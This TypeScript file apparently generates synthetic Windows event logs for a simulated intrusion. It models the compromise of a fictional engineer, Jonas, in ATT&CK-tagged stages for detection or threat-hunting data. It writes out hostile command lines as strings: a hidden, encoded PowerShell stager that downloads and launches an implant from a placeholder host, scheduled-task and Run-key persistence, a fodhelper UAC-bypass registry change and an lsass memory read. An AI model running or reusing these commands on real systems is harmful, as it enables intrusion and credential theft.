import type { Instant } from '../../src/model/time.ts'
import { after, chanceOf } from '../chance.ts'
import type { Binary } from '../records/binaries.ts'
import type { Placed } from '../records/place.ts'
import {
  connect,
  createFile,
  deleteFile,
  elevated,
  encodedCommand,
  end,
  markDownload,
  openProcess,
  type Running,
  scriptBlock,
  setRegistry,
  start,
  UNKNOWN,
} from '../records/processes.ts'
import { asker, logon, otherCredentials, registerTask, runTask } from '../records/security.ts'
import { type Base, POWERSHELL, system32 } from './base.ts'
import { type Campaign, VICTIMS } from './campaign.ts'
import { utc } from './chance.ts'
import { type AtDesk, download, followLink } from './desk.ts'
import { ADMIN, HOSTILE, MACHINES, PEOPLE } from './organisation.ts'

const HOME = `C:\\Users\\${PEOPLE.jonas.account}`
const NEST = `${HOME}\\AppData\\Local\\ColorSync`
const IMPLANT = `${NEST}\\clrsync.exe`
const TASK = 'ColorSync Calibration'

/** The implant says little of itself, and is not signed. */
const IMPLANT_FILE: Binary = {
  ...UNKNOWN,
  version: '1.4.0.2',
  description: 'Color calibration loader',
  product: 'ColorSync',
  originalName: 'clrsync.exe',
}
const DUMPER_FILE: Binary = { ...UNKNOWN, variant: 'reader' }

const SYSMON = 'windows:sysmon'
const SECURITY = 'windows:security'

/** How far apart the implant's calls are: about three quarters of an hour, give or take a third. */
const CALL_SECONDS = 2700
const CALL_SPREAD = 0.33

export const LURE_LINK: string = `https://${HOSTILE.lure.name}/d/4410/RS-4410_Abweichungsbericht`

export interface Foothold {
  readonly implant: Running
  readonly placed: readonly Placed[]
}

/** Jonas clicks, opens what he got, and the implant runs. */
export function openLure(at: AtDesk, campaign: Campaign, clicked: Instant): Foothold {
  const zip = `${HOME}\\Downloads\\RS-4410_Abweichungsbericht.zip`
  const { workstation, engineer } = VICTIMS
  const call = followLink(at, clicked, LURE_LINK)
  const visit = connect(at.browser, clicked, HOSTILE.lure)
  download(at.browser, after(clicked, 11), zip)
  const mark = markDownload(at.browser, after(clicked, 14), zip, `${LURE_LINK}.zip`, LURE_LINK)
  campaign.add({
    stage: 'delivery',
    technique: 'T1566.002',
    what: 'Jonas follows the link and saves the archive',
    subjects: [engineer, workstation],
    visibleIn: [SYSMON],
    events: [...placesOf(call), ...visit, mark],
  })

  const opened = after(clicked, 96)
  const unpacked = `${HOME}\\AppData\\Local\\Temp\\Temp1_RS-4410_Abweichungsbericht.zip`
  const link = createFile(at.explorer, opened, `${unpacked}\\RS-4410_Abweichungsbericht.pdf.lnk`)
  const script = createFile(at.explorer, after(opened, 0.3), `${unpacked}\\bilder\\abb3.js`)
  const host = start(at.explorer, after(opened, 6.2), {
    image: system32('wscript.exe'),
    commandLine: `"${system32('wscript.exe')}" //E:jscript //B bilder\\abb3.js`,
    directory: `${unpacked}\\`,
  })
  const text = stagingScript()
  const shell = start(host, after(opened, 7.1), {
    image: POWERSHELL,
    commandLine: `"${POWERSHELL}" -NoP -NonI -W Hidden -Exec Bypass -enc ${encodedCommand(text)}`,
    directory: `${unpacked}\\`,
  })
  const block = scriptBlock(shell, after(opened, 8.3), text, { warn: true })
  campaign.add({
    stage: 'exploitation',
    technique: 'T1204.002',
    what: 'he opens the shortcut in the archive, which starts a script and that an encoded PowerShell',
    subjects: [engineer, workstation],
    visibleIn: [SYSMON, 'windows:powershell'],
    events: [link, script, ...placesOf(host, shell), block],
  })

  const fetch = connect(shell, after(opened, 9.4), HOSTILE.lure, { cached: true })
  const written = createFile(shell, after(opened, 12.6), IMPLANT)
  const decoy = createFile(shell, after(opened, 13.4), `${HOME}\\AppData\\Local\\Temp\\RS-4410_Abweichungsbericht.pdf`)
  const implant = start(shell, after(opened, 14.1), {
    image: IMPLANT,
    commandLine: `"${IMPLANT}"`,
    directory: `${NEST}\\`,
    binary: IMPLANT_FILE,
  })
  const reader = 'C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\AcroRd32.exe'
  start(shell, after(opened, 14.9), {
    image: reader,
    commandLine: `"${reader}" "${HOME}\\AppData\\Local\\Temp\\RS-4410_Abweichungsbericht.pdf"`,
  })
  end(shell, after(opened, 16))
  end(host, after(opened, 16.4))
  campaign.add({
    stage: 'foothold',
    technique: 'T1105',
    what: 'the implant is fetched and started; a real document is shown meanwhile',
    subjects: [engineer, workstation],
    human: false,
    visibleIn: [SYSMON],
    events: [...fetch, written, decoy, ...placesOf(implant)],
  })
  return { implant, placed: placesOf(implant) }
}

/** The text that the encoded command carries. The names in it lead nowhere. */
function stagingScript(): string {
  return (
    `$d="$env:LOCALAPPDATA\\ColorSync";md $d -f|Out-Null;$u="https://${HOSTILE.lure.name}/a/";` +
    'iwr ($u+"c1") -UseBasicParsing -OutFile "$d\\clrsync.exe";iwr ($u+"p1") -UseBasicParsing -OutFile "$env:TEMP\\RS-4410_Abweichungsbericht.pdf";' +
    'saps "$d\\clrsync.exe";saps "$env:TEMP\\RS-4410_Abweichungsbericht.pdf"'
  )
}

/** Calls home from `from` to `to`, irregularly, by day and night. */
export function callHome(implant: Running, from: Instant, to: Instant): readonly Placed[] {
  const chance = chanceOf(`calls of ${implant.guid}`)
  const places: Placed[] = []
  for (let time = from; time < to; time = after(time, CALL_SECONDS * (1 + CALL_SPREAD * (2 * chance.next() - 1)))) {
    places.push(...connect(implant, time, HOSTILE.control, { cached: chance.happens(0.75) }))
  }
  return places
}

/** Two ways to come back: a task at logon, and a value in the Run key in case the task is found. */
export function persist({ implant }: Foothold, at: AtDesk, campaign: Campaign): void {
  const { host } = implant
  const created = utc(7, '08:21:37')
  const shell = start(implant, created, {
    image: system32('schtasks.exe'),
    commandLine: `schtasks /create /f /sc onlogon /tn "${TASK}" /tr "${IMPLANT}"`,
    directory: `${NEST}\\`,
  })
  const task = registerTask(host, asker(PEOPLE.jonas, at.session), after(created, 0.3), {
    name: TASK,
    command: IMPLANT,
    trigger: 'LogonTrigger',
    processId: shell.id,
  })
  end(shell, after(created, 0.6))
  campaign.add({
    stage: 'backdoor',
    technique: 'T1053.005',
    what: 'a task starts the implant at logon',
    subjects: [VICTIMS.workstation, VICTIMS.engineer],
    visibleIn: [SYSMON, SECURITY, 'windows:taskscheduler'],
    events: [...placesOf(shell), ...task],
  })
  const key = `HKU\\${PEOPLE.jonas.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\ColorSync`
  campaign.add({
    stage: 'backdoor',
    technique: 'T1547.001',
    what: 'so does a value in the Run key',
    subjects: [VICTIMS.workstation, VICTIMS.engineer],
    visibleIn: [SYSMON],
    events: [setRegistry(implant, utc(8, '01:33:10'), key, `"${IMPLANT}"`)],
  })
}

/** The operator looks around, by hand, with a slip of the fingers. */
export function discover({ implant }: Foothold, campaign: Campaign): void {
  const type = (time: Instant, image: string, commandLine: string): readonly Placed[] => {
    const shell = start(implant, time, {
      image: system32('cmd.exe'),
      commandLine: `${system32('cmd.exe')} /c ${commandLine}`,
      directory: `${NEST}\\`,
    })
    const command = start(shell, after(time, 0.2), { image: system32(image), commandLine, directory: `${NEST}\\` })
    end(command, after(time, 1.1))
    end(shell, after(time, 1.2))
    return placesOf(shell, command)
  }
  const first = [
    ...type(utc(7, '08:34:19'), 'whoami.exe', 'whoami  /all'),
    ...type(utc(7, '08:35:02'), 'ipconfig.exe', 'ipconfig  /all'),
    ...type(utc(7, '08:38:47'), 'net.exe', 'net  gruop "Domain Admins" /domain'),
    ...type(utc(7, '08:39:05'), 'net.exe', 'net  group "Domain Admins" /domain'),
    ...type(utc(7, '08:44:31'), 'nltest.exe', 'nltest  /domain_trusts /all_trusts'),
    ...type(utc(7, '08:51:56'), 'tasklist.exe', 'tasklist  /v'),
  ]
  campaign.add({
    stage: 'discovery',
    technique: 'T1069.002',
    what: 'who am I, who is an administrator, which computers are there',
    subjects: [VICTIMS.workstation, VICTIMS.engineer],
    visibleIn: [SYSMON],
    events: first,
  })
  const second = [
    ...type(utc(8, '01:41:22'), 'quser.exe', 'quser'),
    ...type(utc(8, '01:47:08'), 'net.exe', 'net  view \\\\SRV-FS01 /all'),
    ...type(utc(8, '01:58:40'), 'arp.exe', 'arp  -a'),
  ]
  campaign.add({
    stage: 'discovery',
    technique: 'T1135',
    what: 'the shares of the file server',
    subjects: [VICTIMS.workstation, VICTIMS.engineer],
    visibleIn: [SYSMON],
    events: second,
  })
}

/** The browser's cookies are copied: whoever has them is signed in as Jonas. */
export function stealCookies({ implant }: Foothold, campaign: Campaign): void {
  const copy = `${NEST}\\ck.db`
  const copied = createFile(implant, utc(8, '01:52:31'), copy)
  const removed = deleteFile(implant, utc(8, '01:54:02'), copy)
  campaign.add({
    stage: 'credential theft',
    technique: 'T1539',
    what: 'the cookies of Jonas’s browser are copied, and with them his cloud session',
    subjects: [VICTIMS.engineer, VICTIMS.workstation],
    visibleIn: [SYSMON],
    events: [copied, removed],
  })
}

/** After an administrator has been there: more rights without a question, then the memory that holds his credentials. */
export function stealCredentials({ implant }: Foothold, base: Base, at: AtDesk, campaign: Campaign): void {
  const time = utc(9, '02:11:48')
  const classes = `HKU\\${PEOPLE.jonas.sid}_Classes\\ms-settings\\shell\\open\\command`
  const keys = [
    setRegistry(implant, time, `${classes}\\(Default)`, IMPLANT),
    setRegistry(implant, after(time, 0.4), `${classes}\\DelegateExecute`, '(Empty)'),
  ]
  const high = elevated(base.host, at.session, after(time, 3))
  const helper = start(implant, after(time, 3), {
    image: system32('fodhelper.exe'),
    commandLine: `"${system32('fodhelper.exe')}"`,
    session: high,
  })
  const raised = start(helper, after(time, 3.6), {
    image: IMPLANT,
    commandLine: `"${IMPLANT}"`,
    session: high,
    binary: IMPLANT_FILE,
    directory: `${NEST}\\`,
  })
  campaign.add({
    stage: 'exploitation',
    technique: 'T1548.002',
    what: 'the implant gains the administrator half of the token by way of fodhelper',
    subjects: [VICTIMS.workstation],
    visibleIn: [SYSMON],
    events: [...keys, ...placesOf(helper, raised)],
  })

  const read = utc(9, '02:19:26')
  const tool = `${NEST}\\clrprof.exe`
  const dropped = createFile(raised, after(read, -71), tool)
  const reader = start(raised, read, {
    image: tool,
    commandLine: 'clrprof.exe -o p.dat',
    directory: `${NEST}\\`,
    binary: DUMPER_FILE,
  })
  const trace =
    'C:\\Windows\\SYSTEM32\\ntdll.dll+9fc24|C:\\Windows\\System32\\KERNELBASE.dll+30b0e|' +
    `${tool}+1a7f0|UNKNOWN(000001F2C4A31B07)`
  const opened = openProcess(reader, after(read, 1.4), base.lsass, '0x1010', trace)
  const result = createFile(reader, after(read, 5.8), `${NEST}\\p.dat`)
  end(reader, after(read, 6.3))
  const removed = [deleteFile(raised, after(read, 204), tool), deleteFile(raised, after(read, 205), `${NEST}\\p.dat`)]
  campaign.add({
    stage: 'credential theft',
    technique: 'T1003.001',
    what: 'the memory of lsass is read; Radek’s disconnected administrator session is in it',
    subjects: [VICTIMS.workstation, VICTIMS.administrator],
    visibleIn: [SYSMON],
    events: [dropped, ...placesOf(reader), opened, result],
  })
  campaign.add({
    stage: 'covering tracks',
    technique: 'T1070.004',
    what: 'the tool and its output are deleted',
    subjects: [VICTIMS.workstation],
    visibleIn: [SYSMON],
    events: removed,
  })
}

/** The other side of the jump to the file server: the stolen credentials are put into a new session, and the server is called. */
export function leaveForServer({ implant }: Foothold, at: AtDesk, time: Instant): readonly Placed[] {
  const { host } = implant
  const logonId = host.logonId()
  const session = { ...at.session, logonId }
  const places = [
    logon(host, PEOPLE.jonas, time, {
      type: 9,
      logonId,
      from: '::1',
      logonProcess: 'seclogo',
      asker: asker(PEOPLE.jonas, at.session),
      outbound: ADMIN.account,
    }),
    otherCredentials(host, asker(PEOPLE.jonas, session), after(time, 0.4), {
      account: ADMIN.account,
      server: MACHINES.files.name,
      process: implant,
    }),
  ]
  const server = { name: `${MACHINES.files.name}.corp.hallgrund.example`, address: MACHINES.files.address }
  return [...places, ...connect(implant, after(time, 1.1), server, { port: 445, named: true, cached: true })]
}

/** After the restart the task brings the implant back when Jonas logs on. */
export function comeBack(base: Base, at: AtDesk, campaign: Campaign): Running {
  const time = after(at.explorer.started, 4.5)
  const implant = start(base.scheduler, time, {
    image: IMPLANT,
    commandLine: `"${IMPLANT}"`,
    session: at.session,
    directory: 'C:\\Windows\\system32\\',
    binary: IMPLANT_FILE,
  })
  runTask(base.host, time, TASK, implant)
  campaign.add({
    stage: 'backdoor',
    technique: 'T1053.005',
    what: 'the task starts the implant after the computer was restarted for updates',
    subjects: [VICTIMS.workstation, VICTIMS.engineer],
    human: false,
    visibleIn: [SYSMON, 'windows:taskscheduler'],
    events: placesOf(implant),
  })
  return implant
}

/** The records of the processes' creation. */
export function placesOf(...processes: readonly Running[]): readonly Placed[] {
  return processes.flatMap(({ place }) => place ?? [])
}

/** The last moment of the sample. */
export const END: Instant = utc(16, '21:40:00')
/** How long after its start the implant makes its first call. */
export const FIRST_CALL_SECONDS = 21
